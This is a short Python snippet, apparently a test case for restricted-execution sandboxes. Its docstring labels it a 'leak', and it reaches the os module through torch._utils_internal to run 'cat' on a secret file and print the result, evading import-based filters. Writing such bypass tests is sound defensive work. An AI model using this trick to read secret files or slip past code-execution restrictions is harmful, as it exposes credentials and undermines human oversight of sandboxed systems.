"""
goal: read a file by way of torch's namespace of namespaces
effect: leak
"""

import torch

print(torch._utils_internal.os.popen("cat " + SECRET_FILE).read())
